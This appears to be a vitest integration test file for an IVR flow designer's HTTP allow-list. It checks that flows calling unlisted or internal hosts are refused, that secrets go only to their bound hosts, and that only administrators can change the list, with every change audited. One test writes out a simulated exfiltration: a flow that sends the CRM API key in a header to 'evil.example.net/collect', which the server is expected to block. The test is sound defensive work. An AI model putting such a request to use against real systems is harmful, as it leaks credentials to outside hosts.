import { afterAll, beforeAll, describe, expect, it } from "vitest";
import * as flowReviewsRoute from "@/app/api/flows/[flowId]/reviews/route";
import * as draftRoute from "@/app/api/flows/[flowId]/draft/route";
import * as httpAllowListRoute from "@/app/api/http-allow-list/route";
import * as httpAllowEntryRoute from "@/app/api/http-allow-list/[entryId]/route";
import * as httpSecretsRoute from "@/app/api/http-allow-list/secrets/route";
import * as httpPolicyRoute from "@/app/api/http-allow-list/policy/route";
import { startTestApp, type TestApp } from "./support/test-app";

let app: TestApp;
beforeAll(async () => {
  app = await startTestApp();
});
afterAll(async () => {
  await app.stop();
});

function httpFlow(url: string, headers: { name: string; value: string }[] = []) {
  return {
    schemaVersion: 1,
    kind: "ivr",
    name: "Lookup",
    nodes: [
      { id: "start", type: "start", position: { x: 0, y: 0 }, data: {} },
      { id: "lookup", type: "http-request", label: "CRM lookup", position: { x: 0, y: 100 }, data: { url, headers } },
      { id: "bye", type: "hangup", position: { x: 0, y: 200 }, data: {} },
    ],
    edges: [
      { id: "e1", source: "start", sourcePort: "next", target: "lookup" },
      { id: "e2", source: "lookup", sourcePort: "success", target: "bye" },
      { id: "e3", source: "lookup", sourcePort: "error", target: "bye" },
    ],
  };
}

async function submitDraft(graph: unknown) {
  const flow = await app.createFlow("ivr");
  const saved = await app.call(draftRoute.PUT, { as: "ops", method: "PUT", params: { flowId: flow.id }, body: { graph, baseRevision: flow.draftRevision } });
  expect(saved.status, JSON.stringify(saved.body)).toBe(200);
  return app.call(flowReviewsRoute.POST, { as: "ops", method: "POST", params: { flowId: flow.id }, body: { note: "lookup", baseRevision: flow.draftRevision + 1 } });
}

describe("HTTP allow-list", () => {
  it("refuses to submit a flow calling a host that is not allowed, or sending a secret elsewhere than its hosts", async () => {
    const internal = await submitDraft(httpFlow("http://127.0.0.1:8233/api/v1/namespaces"));
    expect(internal.status).toBe(422);
    expect(JSON.stringify(internal.body)).toContain("http-host-not-allowed");
    expect(JSON.stringify(internal.body)).toContain("127.0.0.1:8233");

    expect((await app.call(httpAllowListRoute.POST, { as: "admin", method: "POST", body: { destination: "CRM.example.com", note: "CRM" } })).status).toBe(201);
    expect((await app.call(httpAllowListRoute.POST, { as: "admin", method: "POST", body: { destination: "evil.example.net" } })).status).toBe(201);
    expect((await app.call(httpSecretsRoute.PUT, { as: "admin", method: "PUT", body: { secret: "CRM_API_KEY", destinations: ["crm.example.com"] } })).status).toBe(200);

    const exfiltrate = await submitDraft(httpFlow("https://evil.example.net/collect", [{ name: "X-Api-Key", value: "{{secret.CRM_API_KEY}}" }]));
    expect(exfiltrate.status).toBe(422);
    const issues = JSON.stringify(exfiltrate.body);
    expect(issues).toContain("secret-not-allowed-here");
    expect(issues).toContain('"nodeId":"lookup"');
    expect(issues).toContain('["headers",0,"value"]');

    const allowed = await submitDraft(httpFlow("https://crm.example.com/v1/customers", [{ name: "X-Api-Key", value: "{{secret.CRM_API_KEY}}" }]));
    expect(allowed.status, JSON.stringify(allowed.body)).toBe(201);
  });

  it("is changed by administrators only, every change audited, and readable by designers", async () => {
    const ops = await app.call(httpAllowListRoute.POST, { as: "ops", method: "POST", body: { destination: "x.example.com" } });
    expect(ops.status).toBe(403);
    const bad = await app.call(httpAllowListRoute.POST, { as: "admin", method: "POST", body: { destination: "http://x.example.com/" } });
    expect(bad.status).toBe(400);
    const added = await app.call(httpAllowListRoute.POST, { as: "admin", method: "POST", body: { destination: "10.0.0.5:8443", note: "intranet CRM" } });
    expect(added.status).toBe(201);
    const again = await app.call(httpAllowListRoute.POST, { as: "admin", method: "POST", body: { destination: "10.0.0.5:8443" } });
    expect(again.status).toBe(409);
    for (const role of ["ops", "marketer"] as const) {
      const read = await app.call(httpPolicyRoute.GET, { as: role, path: "/api/http-allow-list/policy" });
      expect(read.status, role).toBe(200);
      expect(read.body.policy.allowed).toContainEqual({ destination: "10.0.0.5:8443", allowInternal: false });
    }
    expect((await app.call(httpPolicyRoute.GET, { as: "agent", path: "/api/http-allow-list/policy" })).status).toBe(403);
    const removed = await app.call(httpAllowEntryRoute.DELETE, { as: "admin", method: "DELETE", params: { entryId: String(added.body.host.id) } });
    expect(removed.status).toBe(200);
    const audit = await app.db.prisma.auditEntry.findMany({ where: { targetType: { in: ["httpAllowList", "httpSecretBinding"] } }, orderBy: { id: "asc" } });
    expect(audit.map((entry) => entry.action)).toEqual(expect.arrayContaining(["httpAllowList.add", "httpAllowList.remove", "httpSecretBinding.set"]));
    expect(audit.filter((entry) => entry.targetId === added.body.host.id).map((entry) => entry.action)).toEqual(["httpAllowList.add", "httpAllowList.remove"]);

    const after = await app.call(httpPolicyRoute.GET, { as: "ops", path: "/api/http-allow-list/policy" });
    expect(after.body.policy.allowed).not.toContainEqual({ destination: "10.0.0.5:8443", allowInternal: false });
  });
});
